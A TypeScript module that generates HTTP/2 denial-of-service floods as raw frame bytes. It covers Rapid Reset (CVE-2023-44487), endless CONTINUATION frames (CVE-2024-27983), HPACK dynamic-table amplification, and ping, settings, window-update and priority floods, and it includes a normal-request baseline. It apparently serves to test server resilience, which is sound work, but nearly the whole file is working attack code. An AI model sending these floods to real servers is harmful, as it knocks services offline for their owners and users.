import {
  continuation,
  headers,
  indexedLiteral,
  lastData,
  literal,
  newestEntry,
  ping,
  priority,
  requestBlock,
  resetStream,
  settings,
  windowUpdate,
} from "./http2-frames.ts";

/** A flood of HTTP/2: the bytes of its next `count` frames (of a call, for calls). */
export type Flood = (count: number) => Buffer;

/** Each begins anew with a connection. */
export const http2Floods = {
  /** Headers, whole data, reset (CVE-2023-44487). */
  reset: (path: string): Flood => {
    const next = streamIds();
    const block = requestBlock(path);
    return repeat(() => {
      const id = next();
      return Buffer.concat([headers(id, block), lastData(id, Buffer.alloc(5)), resetStream(id)]);
    });
  },
  ping: (): Flood => repeat(ping),
  settings: (): Flood => repeat(settings),
  windowUpdate: (): Flood => repeat(() => windowUpdate(0)),
  priority: (): Flood => {
    const next = streamIds();
    return repeat(() => priority(next()));
  },
  /** A header block that never ends (CVE-2024-27983). */
  continuation: (path: string): Flood => {
    let begun = false;
    const part = literal("x-long", "x".repeat(1_000));
    return repeat(() => {
      if (begun) return continuation(1, part);
      begun = true;
      return headers(1, requestBlock(path), 0);
    });
  },
  /** A large entry of the dynamic table, and blocks that name it again and again. */
  hpack: (path: string): Flood => {
    const next = streamIds();
    const entry = indexedLiteral("x-large", "x".repeat(4_000));
    const again = Buffer.concat(Array.from({ length: 10_000 }, () => newestEntry));
    return repeat(() => headers(next(), Buffer.concat([requestBlock(path), entry, again])));
  },
} satisfies Record<string, (path: string) => Flood>;

/** Whole calls, which are no flood. */
export function calls(path: string): Flood {
  const next = streamIds();
  const block = requestBlock(path);
  return repeat(() => {
    const id = next();
    return Buffer.concat([headers(id, block), lastData(id, Buffer.alloc(5))]);
  });
}

function repeat(make: () => Buffer): Flood {
  return (count) => Buffer.concat(Array.from({ length: count }, make));
}

/** Of a client's streams: odd, each larger than the one before. */
function streamIds(): () => number {
  let id = -1;
  return () => {
    id += 2;
    return id;
  };
}
